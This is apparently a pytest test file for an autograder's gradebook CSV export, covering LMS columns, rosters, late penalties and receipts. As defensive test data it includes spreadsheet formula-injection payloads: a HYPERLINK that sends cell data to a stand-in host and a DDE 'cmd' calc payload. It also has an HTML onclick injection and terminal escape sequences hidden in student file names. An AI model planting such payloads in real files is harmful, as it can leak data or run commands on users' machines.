"""Gradebook export (autograder/reports/gradebook.py, ``tapetrace gradebook``): Canvas and Moodle CSVs, one column
per exercise and a total; students named by file name or a roster; the grader's rows left blank (fail closed)."""

from __future__ import annotations

import csv
import dataclasses
import io
import json

import pytest
from test_report import fake_results

from autograder import cli
from autograder.reports import gradebook as _gradebook


def _results():
    rows = fake_results(3, seed=2)
    for r, name in zip(rows, ("subs/alice.ipynb", "subs/bob.zip", "subs/carol/")):
        r["submission"] = name
    return rows


def _read(text):
    return list(csv.reader(io.StringIO(text)))


def test_student_key_from_file_names():
    assert [_gradebook.student_key(p) for p in ("subs/alice.ipynb", "b/bob.ZIP", "carol/", "x/dan.py", "eve")] == \
        ["alice", "bob", "carol", "dan", "eve"]


def test_canvas_columns_points_possible_and_totals():
    rows = _results()
    book = _gradebook.build(rows)
    table, notes = _read(_gradebook.to_csv(book, "canvas")), book.blanks
    exs = list(rows[0]["exercises"])
    assert table[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", *[f"tapetrace {e}" for e in exs],
                        "tapetrace total"]
    assert table[1][0] == "Points Possible"
    assert float(table[1][-1]) == pytest.approx(sum(rows[0]["exercises"][e]["max_score"] for e in exs))
    body = {r[2]: r for r in table[2:]}
    assert set(body) == {"alice", "bob", "carol"} and not notes
    for r in rows:
        line = body[_gradebook.student_key(r["submission"])]
        assert [float(x) for x in line[5:-1]] == [r["exercises"][e]["score"] for e in exs]
        assert float(line[-1]) == pytest.approx(r["total"])


def test_roster_names_students_and_moodle_uses_id_number_and_email(tmp_path):
    roster = tmp_path / "roster.csv"
    roster.write_text("file,student_id,name,email\nalice.ipynb,s001,Alice A,alice@uni.edu\nbob.zip,s002,Bob B,"
                      "bob@uni.edu\ncarol,s003,Carol C,carol@uni.edu\n")
    table = _read(_gradebook.to_csv(_gradebook.build(_results(), _gradebook.read_roster(str(roster))), "moodle"))
    assert table[0][:2] == ["ID number", "Email address"] and table[0][-1] == "tapetrace total"
    assert [r[:2] for r in table[1:]] == [["s001", "alice@uni.edu"], ["s002", "bob@uni.edu"], ["s003", "carol@uni.edu"]]
    canvas = _read(_gradebook.to_csv(_gradebook.build(_results(), _gradebook.read_roster(str(roster))), "canvas"))
    assert canvas[2][:4] == ["Alice A", "", "s001", "alice@uni.edu"]


def test_a_submission_not_in_the_roster_is_refused(tmp_path):
    roster = tmp_path / "roster.csv"
    roster.write_text("file,student_id\nalice.ipynb,s001\n")
    with pytest.raises(_gradebook.GradebookError, match="not in the roster"):
        _gradebook.build(_results(), _gradebook.read_roster(str(roster)))
    (tmp_path / "bad.csv").write_text("name,id\nx,y\n")
    with pytest.raises(_gradebook.GradebookError, match="file and student_id"):
        _gradebook.read_roster(str(tmp_path / "bad.csv"))


def test_the_graders_rows_are_blank_not_zero_and_exit_3(tmp_path, capsys):
    rows = _results()
    ex = next(iter(rows[1]["exercises"]))
    rows[1]["exercises"][ex].update(status="grader_error", score=0.0)
    path = tmp_path / "r.json"
    path.write_text(json.dumps(rows))
    out = tmp_path / "grades.csv"
    assert cli.main(["gradebook", str(path), "--out", str(out)]) == 3
    assert "blank" in capsys.readouterr().err
    table = _read(out.read_text())
    bob = next(r for r in table if r[2] == "bob")
    assert bob[5] == "" and bob[-1] == ""  # no 0 the LMS would keep; no total either
    alice = next(r for r in table if r[2] == "alice")
    assert all(alice[5:])


def test_cli_writes_and_refuses_in_one_line(tmp_path, capsys):
    path = tmp_path / "r.json"
    path.write_text(json.dumps(_results()))
    assert cli.main(["gradebook", str(path), "--out", str(tmp_path / "g.csv"), "--format", "moodle"]) == 0
    assert _read((tmp_path / "g.csv").read_text())[0][0] == "ID number"
    capsys.readouterr()
    assert cli.main(["gradebook", str(tmp_path / "none.json"), "--out", str(tmp_path / "g.csv")]) == 2
    assert capsys.readouterr().err.count("\n") == 1


@pytest.mark.parametrize("fmt, column", [("canvas", "SIS User ID"), ("moodle", "ID number")])
def test_without_a_roster_the_ids_are_file_names_and_a_warning_says_so(tmp_path, capsys, fmt, column):
    """Issue 56: Canvas's SIS columns got file stems silently."""
    code, table = _cli(tmp_path, [_row("subs/alice.ipynb")], "--format", fmt)
    err = capsys.readouterr().err
    assert code == 0 and "alice" in table[-1]
    assert "warning: no --roster" in err and column in err and "--roster ROSTER.csv" in err
    roster = tmp_path / "roster.csv"
    roster.write_text("file,student_id\nalice.ipynb,s001\n")
    code, _ = _cli(tmp_path, [_row("subs/alice.ipynb")], "--format", fmt, "--roster", str(roster))
    assert code == 0 and "no --roster" not in capsys.readouterr().err


# --- rows the roster names, duplicates, injection, --help ---------------------------------------------------------

def _row(submission, score=8.0, max_score=10.0, status="graded"):
    return {"submission": submission, "total": score, "max_total": max_score,
            "exercises": {"ex01_torch_mlp": {"score": score, "max_score": max_score, "status": status, "tests": []}}}


def _cli(tmp_path, rows, *argv):
    path = tmp_path / "r.json"
    path.write_text(json.dumps(rows))
    out = tmp_path / "grades.csv"
    code = cli.main(["gradebook", str(path), "--out", str(out), *argv])
    table = _read(out.read_text()) if out.exists() else []
    return code, table


def test_a_roster_student_without_a_submission_gets_a_blank_row(tmp_path, capsys):
    roster = tmp_path / "roster.csv"
    roster.write_text("file,student_id,name\nalice.ipynb,s001,Alice A\nbob.zip,s002,Bob B\ndan.ipynb,s004,Dan D\n")
    code, table = _cli(tmp_path, [_row("subs/alice.ipynb"), _row("subs/bob.zip", 5.0)], "--roster", str(roster))
    assert code == 0  # nothing the grader owes: a fact, not a blank to resolve
    assert table[0][-1] == "tapetrace notes"
    dan = next(r for r in table if r[2] == "s004")
    assert dan[0] == "Dan D" and dan[5:7] == ["", ""] and dan[-1] == "no submission"
    assert next(r for r in table if r[2] == "s002")[5:7] == ["5", "5"]
    assert "s004 (dan): no submission" in capsys.readouterr().err


def test_two_submissions_of_one_student_suggest_a_roster_and_a_path_roster_resolves_them(tmp_path):
    rows = [_row("subs/alice/work.ipynb", 7.0), _row("subs/bob/work.ipynb", 3.0)]
    with pytest.raises(_gradebook.GradebookError, match=r"both student work: .*--roster"):
        _gradebook.build(rows)
    roster = tmp_path / "roster.csv"
    roster.write_text("file,student_id\nalice/work.ipynb,s001\nbob/work.ipynb,s002\n")
    book = _gradebook.build(rows, _gradebook.read_roster(str(roster)))
    assert {s["student_id"]: s["total"] for s in book.students} == {"s001": 7.0, "s002": 3.0}
    roster.write_text("file,student_id\nalice/work.ipynb,s001\nbob/work.ipynb,s001\n")
    with pytest.raises(_gradebook.GradebookError, match="fix the roster"):
        _gradebook.build(rows, _gradebook.read_roster(str(roster)))


EVIL = ['=HYPERLINK("http:x.test?"&A1)', "+1+cmd|' -C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"]


@pytest.mark.parametrize("fmt", _gradebook.FORMATS)
@pytest.mark.parametrize("with_roster", [False, True])
def test_a_formula_in_a_student_controlled_name_is_text_and_scores_stay_numbers(tmp_path, fmt, with_roster):
    names = EVIL[:4] if with_roster else EVIL  # a roster's cells are stripped: no leading tab there
    rows = [_row(f"subs/{name}.ipynb", 4.5) for name in names]
    roster = None
    if with_roster:
        path = tmp_path / "roster.csv"
        with open(path, "w", newline="") as fh:
            w = csv.writer(fh)
            w.writerow(["file", "student_id", "name", "email", "section"])
            w.writerows([f"{n}.ipynb", n, n, f"={k}@uni.edu", "-S1"] for k, n in enumerate(names))
        roster = _gradebook.read_roster(str(path))
    table = _read(_gradebook.to_csv(_gradebook.build(rows, roster), fmt))
    body = table[2:] if fmt == "canvas" else table[1:]
    assert len(body) == len(names)
    for line in body:
        text, numbers = line[:-2], line[-2:]
        assert all(c.lstrip()[:1] not in "=+-@\t\r" for c in text if c), line  # "'=..." is text
        assert any(c.startswith("'") for c in text) or line[0].strip() == "x", line  # tab, CR: cleaned
        assert [float(x) for x in numbers] == [4.5, 4.5]  # a real number stays a number: no apostrophe


def test_help_has_text_for_every_option_and_the_formats_are_the_modules(capsys):
    from autograder.cli import gradebook as _cmd

    parser = cli.build_parser()
    sub = next(a for a in parser._actions if a.__class__.__name__ == "_SubParsersAction").choices["gradebook"]
    for action in sub._actions:
        assert action.help, action.option_strings or action.dest
    fmt = next(a for a in sub._actions if "--format" in a.option_strings)
    assert fmt.choices == list(_gradebook.FORMATS) and fmt.default == next(iter(_gradebook.FORMATS))
    assert "FORMATS = " not in (_cmd.__file__ and open(_cmd.__file__).read())
    with pytest.raises(SystemExit):
        cli.main(["gradebook", "--help"])
    out = capsys.readouterr().out
    for words in ("the gradebook CSV to write", "the LMS whose import columns", "--deadline", "--penalty",
                  "--late-days", "--extensions", "--times", "--gradescope-metadata", "--times-from-mtime",
                  "--time-format"):
        assert words in out, words


def _fake_format(book, grades):
    return [["who", *grades.header], *[[s["student_id"], *grades.of(book, s)] for s in book.students]]


def test_each_format_is_written_by_its_own_writer_and_a_new_entry_is_a_choice(tmp_path, monkeypatch, capsys):
    """``FORMATS`` maps a name to its writer, with no fall-through: each name's rows are its writer's, an unknown
    name is refused by argparse, and one entry added to the map is a ``--format`` choice that the CLI writes."""
    book = _gradebook.build(_results())
    seen: list[str] = []
    for name, fmt in list(_gradebook.FORMATS.items()):
        monkeypatch.setitem(_gradebook.FORMATS, name, dataclasses.replace(
            fmt, rows=lambda b, g, name=name: seen.append(name) or [[name]]))
    for name in _gradebook.FORMATS:
        assert _read(_gradebook.to_csv(book, name)) == [[name]] and seen[-1] == name
    assert seen == list(_gradebook.FORMATS)
    monkeypatch.undo()
    with pytest.raises(_gradebook.GradebookError, match="unknown format"):
        _gradebook.to_csv(book, "blackboard")
    results = tmp_path / "r.json"
    results.write_text(json.dumps(_results()))
    with pytest.raises(SystemExit):
        cli.main(["gradebook", str(results), "--out", str(tmp_path / "g.csv"), "--format", "blackboard"])
    assert "invalid choice: 'blackboard'" in capsys.readouterr().err
    monkeypatch.setitem(_gradebook.FORMATS, "blackboard", _gradebook.Format(_fake_format, "warning: ids are names"))
    code = cli.main(["gradebook", str(results), "--out", str(tmp_path / "g.csv"), "--format", "blackboard"])
    assert code in (0, 3) and "warning: ids are names" in capsys.readouterr().err
    assert _read((tmp_path / "g.csv").read_text())[0][0] == "who"


# --- the late policy ------------------------------------------------------------------------------------------------

DEADLINE = "2026-12-01T23:59:00+01:00"


def _times(tmp_path, **times):
    p = tmp_path / "times.csv"
    p.write_text("file,submitted_at\n" + "".join(f"{k}.ipynb,{v}\n" for k, v in times.items()))
    return str(p)


def _by_id(table):
    return {r[2]: r for r in table[2:]}


def test_late_by_an_hour_with_a_penalty_per_hour(tmp_path):
    rows = [_row(f"subs/{n}.ipynb", 10.0) for n in ("ontime", "utc", "hour", "hourplus", "early")]
    times = _times(tmp_path, ontime="2026-12-01T23:59:00+01:00", utc="2026-12-01T22:59:00Z",
                   hour="2026-12-02T00:59:00+01:00", hourplus="2026-12-01T23:59:01Z", early="2026-11-30T10:00:00-08:00")
    code, table = _cli(tmp_path, rows, "--deadline", DEADLINE, "--penalty", "2%/hour", "--times", times)
    assert code == 0
    got = {k: (float(v[5]), float(v[6]), v[7]) for k, v in _by_id(table).items()}
    assert got["ontime"] == (10.0, 10.0, "on time") and got["utc"][:2] == (10.0, 10.0) and got["early"][0] == 10.0
    assert got["hour"][:2] == (9.8, 9.8) and got["hour"][2].startswith("late 1h 00m: -2% (1 hour(s))")
    assert got["hourplus"][0] == 9.6  # 1h 00m 01s: two started hours


def test_late_under_a_minute_says_seconds(tmp_path):
    """Issue 56: 30 s late read "late 1m"."""
    from datetime import timedelta

    from autograder.reports.late import duration_words

    assert [duration_words(timedelta(seconds=s)) for s in (0.2, 30, 59, 59.5, 60, 61, 3600)] == \
        ["1s", "30s", "59s", "1m", "1m", "2m", "1h 00m"]
    rows = [_row("subs/thirty.ipynb", 10.0)]
    code, table = _cli(tmp_path, rows, "--deadline", DEADLINE, "--times",
                       _times(tmp_path, thirty="2026-12-01T23:59:30+01:00"))
    assert code == 0 and table[2][-1] == "late 30s"


def _quoted_times(tmp_path, **times):
    p = tmp_path / "lms_times.csv"
    with open(p, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["file", "submitted_at"])
        w.writerows([f"{k}.ipynb", v] for k, v in times.items())
    return str(p)


@pytest.mark.parametrize("fmt, late, on_time", [
    ("%b %d, %Y %I:%M%p", "Dec 2, 2026 1:30am", "Dec 1, 2026 10:30pm"),  # Canvas-like, shown in the page
    ("%m/%d/%Y %H:%M", "12/02/2026 01:30", "12/01/2026 22:30"),  # US month first
    ("%d/%m/%Y %H:%M", "02/12/2026 01:30", "01/12/2026 22:30"),  # day first: the same digits, the other order
])
def test_an_lms_time_format_is_read_only_with_an_explicit_time_format(tmp_path, capsys, fmt, late, on_time):
    """Issue 56: "Dec 1, 2026 10:30pm" and "12/01/2026 22:30" were refused; read with --time-format, never
    guessed (without it, refused naming the flag)."""
    rows = [_row("subs/late.ipynb", 10.0), _row("subs/ontime.ipynb", 10.0)]
    times = _quoted_times(tmp_path, late=late, ontime=on_time)
    args = ("--deadline", DEADLINE, "--times", times, "--timezone", "Europe/Madrid", "--penalty", "10%/day")
    code, _ = _cli(tmp_path, rows, *args)
    assert code == 2 and "--time-format" in capsys.readouterr().err  # refused, the flag named
    code, table = _cli(tmp_path, rows, *args, "--time-format", fmt)
    got = _by_id(table)
    assert code == 0 and got["ontime"][-1] == "on time" and got["late"][-1].startswith("late 1h 31m: -10%")


def test_time_format_names_and_refusals(tmp_path, capsys):
    from autograder.reports import late as _late

    assert _late.time_format(None) is None and _late.time_format("Gradescope") is None  # documented: ISO 8601
    assert _late.time_format("%d.%m.%Y %H:%M") == "%d.%m.%Y %H:%M"
    with pytest.raises(_late.LateError, match="strptime format"):
        _late.time_format("canvas")  # no documented export format found: never a guessed one
    with pytest.raises(_late.LateError, match="is not a time in --time-format"):
        _late.parse_time("2026-12-01T22:30:00Z", None, "", "%m/%d/%Y %H:%M")
    rows = [_row("subs/a.ipynb", 10.0)]
    code, _ = _cli(tmp_path, rows, "--deadline", DEADLINE, "--times",
                   _quoted_times(tmp_path, a="12/01/2026 22:30"), "--time-format", "%m/%d/%Y %H:%M")
    assert code == 2 and "no UTC offset" in capsys.readouterr().err  # a format without an offset needs a zone
    code, _ = _cli(tmp_path, rows, "--deadline", DEADLINE, "--time-format", "%m/%d/%Y %H:%M")
    assert code == 2 and "give it with --times" in capsys.readouterr().err


def test_an_extension_moves_the_deadline(tmp_path):
    rows = [_row("subs/alice.ipynb", 10.0), _row("subs/bob.ipynb", 10.0), _row("subs/carol.ipynb", 10.0)]
    times = _times(tmp_path, alice="2026-12-03T12:00:00+01:00", bob="2026-12-03T12:00:00+01:00",
                   carol="2026-12-03T12:00:00+01:00")
    ext = tmp_path / "ext.csv"
    ext.write_text("file,student_id,days,deadline\nalice.ipynb,,2,\n,bob,,2026-12-03T11:00:00Z\n")
    code, table = _cli(tmp_path, rows, "--deadline", DEADLINE, "--penalty", "10%/day", "--times", times,
                       "--extensions", str(ext))
    got = _by_id(table)
    assert code == 0
    assert got["alice"][5] == "10" and got["alice"][-1] == "on time (extended)"  # deadline Dec 3 23:59
    assert got["bob"][5] == "10"  # 12:00+01:00 is 11:00Z: on time
    assert got["carol"][5] == "8" and got["carol"][-1].startswith("late 1d 12h 01m: -20%")
    rec = json.loads((tmp_path / "grades.csv.receipt.json").read_text())["receipt"]["late"]
    assert rec["extensions"] == 2 and rec["counts"]["on time"] == 2 and rec["counts"]["late"] == 1


def test_a_student_without_a_trustworthy_time_is_time_unknown_never_on_time(tmp_path, capsys):
    rows = [_row("subs/alice.ipynb", 10.0), _row("subs/bob.ipynb", 10.0)]
    code, table = _cli(tmp_path, rows, "--deadline", DEADLINE, "--times",
                       _times(tmp_path, alice="2026-12-01T20:00:00+01:00"))
    got = _by_id(table)
    assert code == 3 and got["alice"][5] == "10"
    assert got["bob"][5:7] == ["", ""] and got["bob"][-1].startswith("time unknown")
    assert "bob.ipynb: time unknown" in capsys.readouterr().err
    code, table = _cli(tmp_path, rows, "--deadline", DEADLINE)  # no times at all: every one unknown
    assert code == 3 and all(r[5] == "" and r[-1].startswith("time unknown") for r in table[2:])


def test_the_penalty_stops_at_zero_and_late_days_cut_off(tmp_path):
    rows = [_row("subs/a.ipynb", 10.0), _row("subs/b.ipynb", 10.0), _row("subs/c.ipynb", 10.0)]
    times = _times(tmp_path, a="2026-12-04T23:00:00+01:00", b="2026-12-01T23:59:00+01:00",
                   c="2026-12-02T00:10:00+01:00")
    _, table = _cli(tmp_path, rows, "--deadline", DEADLINE, "--penalty", "50%/day", "--times", times)
    assert _by_id(table)["a"][5] == "0"  # 3 started days x 50%: 0, never negative
    _, table = _cli(tmp_path, rows, "--deadline", DEADLINE, "--late-days", "2", "--grace", "15m", "--times", times)
    got = _by_id(table)
    assert got["a"][5] == "0" and "after 2 late day(s)" in got["a"][-1]
    assert got["c"][5] == "10" and got["c"][-1] == "on time"  # 11 minutes late, inside the grace


def test_times_without_an_offset_need_a_timezone(tmp_path, capsys):
    rows = [_row("subs/alice.ipynb", 10.0)]
    times = _times(tmp_path, alice="2026-12-01 23:30:00")
    code, _ = _cli(tmp_path, rows, "--deadline", DEADLINE, "--times", times)
    assert code == 2 and "no UTC offset" in capsys.readouterr().err
    code, table = _cli(tmp_path, rows, "--deadline", DEADLINE, "--times", times, "--timezone", "America/New_York")
    assert code == 0 and table[2][-1].startswith("late 5h 31m")  # 23:30 in New York is 05:30+01:00
    code, _ = _cli(tmp_path, rows, "--penalty", "10%/day")
    assert code == 2 and "needs --deadline" in capsys.readouterr().err


def test_mtimes_only_when_asked_and_recorded(tmp_path):
    import os

    sub = tmp_path / "alice.ipynb"
    sub.write_text("{}")
    os.utime(sub, (0, 1_796_166_000))  # 2026-12-02T00:00:00+01:00: one minute late
    code, table = _cli(tmp_path, [_row(str(sub), 10.0)], "--deadline", DEADLINE, "--penalty", "10%/day",
                       "--times-from-mtime")
    assert code == 0 and table[2][5] == "9" and "mtime" in table[2][-1]
    rec = json.loads((tmp_path / "grades.csv.receipt.json").read_text())["receipt"]["late"]
    assert rec["trusted"] is False and "--times-from-mtime" in rec["times"]


def test_gradescope_times_come_from_the_exports_top_level_yml(tmp_path):
    """The export's own ``submission_metadata.yml`` times each ``submission_N/`` folder; a
    ``submission_metadata.json`` inside a folder is what the student uploaded and is not read (issue 53:
    tests/test_gradebook_authority.py has the attacks)."""
    gs = tmp_path / "gs"
    (gs / "submission_1").mkdir(parents=True)
    (gs / "submission_1" / "submission_metadata.json").write_text(json.dumps(
        {"id": 1, "created_at": "2026-11-20T10:00:00+01:00", "users": [{"name": "A", "sid": "s001"}]}))
    (gs / "submission_metadata.yml").write_text(
        "---\nsubmission_1:\n  :submitters:\n  - :name: A\n    :sid: s001\n"
        "  :created_at: 2026-12-02 01:30:00.123456000 +01:00\n"
        "submission_2:\n  :submitters:\n  - :name: Bob\n    :sid: '002'\n    :email: bob@uni.edu\n"
        "  :created_at: 2026-12-01 14:00:00.906385000 -08:00\n  :score: 10.0\n")
    rows = [_row("export/submission_1/work.ipynb", 10.0), _row("export/submission_2", 10.0)]
    roster = tmp_path / "roster.csv"
    roster.write_text("file,student_id\nsubmission_1/work.ipynb,s001\nsubmission_2,002\n")
    code, table = _cli(tmp_path, rows, "--deadline", DEADLINE, "--penalty", "1%/hour", "--gradescope-metadata",
                       str(gs), "--roster", str(roster))
    got = _by_id(table)
    assert code == 0 and got["s001"][5] == "9.8" and got["002"][5] == "10"  # 14:00-08:00 is 23:00+01:00


def test_the_receipt_shows_the_policy_counts_and_escapes_names(tmp_path):
    from autograder.reports import receipt as _receipt

    rows = [_row("subs/<b onclick=x>.ipynb", 10.0), _row("subs/ok.ipynb", 10.0)]
    _cli(tmp_path, rows, "--deadline", DEADLINE, "--penalty", "10%/day", "--times",
         _times(tmp_path, ok="2026-12-01T20:00:00+01:00", **{"<b onclick=x>": "2026-12-02T20:00:00+01:00"}))
    rec = json.loads((tmp_path / "grades.csv.receipt.json").read_text())["receipt"]
    assert rec["submissions"] == 2 and rec["late"]["counts"] == {"on time": 1, "late": 1, "too late": 0,
                                                                   "time unknown": 0, "no submission": 0}
    assert "penalty 10% of the score per started day late" in rec["late"]["policy"]
    page = _receipt.render_html(rec)
    assert "Late policy" in page and "&lt;b onclick=x&gt;" in page and "<b " not in page


def test_an_extension_without_an_offset_needs_a_timezone_and_names_on_the_terminal_are_escaped(tmp_path, capsys):
    rows = [_row("subs/alice.ipynb", 10.0), _row("subs/evil\x1b[2J\x07.ipynb", 10.0, status="grader_error")]
    ext = tmp_path / "ext.csv"
    ext.write_text("file,deadline\nalice.ipynb,2026-12-03 23:59\n")
    times = _times(tmp_path, alice="2026-12-03T20:00:00+01:00")
    code, _ = _cli(tmp_path, rows, "--deadline", DEADLINE, "--times", times, "--extensions", str(ext))
    assert code == 2 and "no UTC offset" in capsys.readouterr().err
    code, table = _cli(tmp_path, rows, "--deadline", DEADLINE, "--times", times, "--extensions", str(ext),
                       "--timezone", "Europe/Madrid")
    err = capsys.readouterr().err
    assert code == 3 and _by_id(table)["alice"][-1] == "on time (extended)"
    assert "\x1b" not in err and "\x07" not in err and "evil\\x1b[2J\\x07.ipynb" in err


# --- one damaged row never stops the gradebook -------------------------------------------------------------------
DAMAGED = [{"exercises": {"ex01_torch_mlp": "oops"}}, {"exercises": {"ex01_torch_mlp": {"score": "ten"}}},
           {"exercises": {"ex01_torch_mlp": {"tests": [None]}}}, {"total": None}, {"exercises": []},
           {"submission": ["x"]}]


@pytest.mark.parametrize("damage", DAMAGED, ids=["exercise_text", "score_text", "test_none", "total_none",
                                                 "exercises_list", "name_list"])
def test_a_damaged_row_is_left_out_with_a_note_and_the_rest_finish(tmp_path, capsys, damage):
    """A results file with one row that is not the row schema's shape (docs/grading-contract.md) (hand-edited, damaged) once stopped the
    gradebook with a traceback; now that row is left out, a note says which and why, the rest are written."""
    bad = _row("s/mallory")
    for key, value in damage.items():
        bad[key] = value if key != "exercises" or not isinstance(value, dict) else {
            ex: (e if not isinstance(e, dict) else {**bad["exercises"][ex], **e}) for ex, e in value.items()}
    code, table = _cli(tmp_path, [_row("s/alice"), bad, _row("s/bob", 6.0)])
    assert code == 0
    assert sorted(r[0] for r in table[2:]) == ["alice", "bob"]
    err = capsys.readouterr().err
    assert "result 2" in err and "left out" in err, err
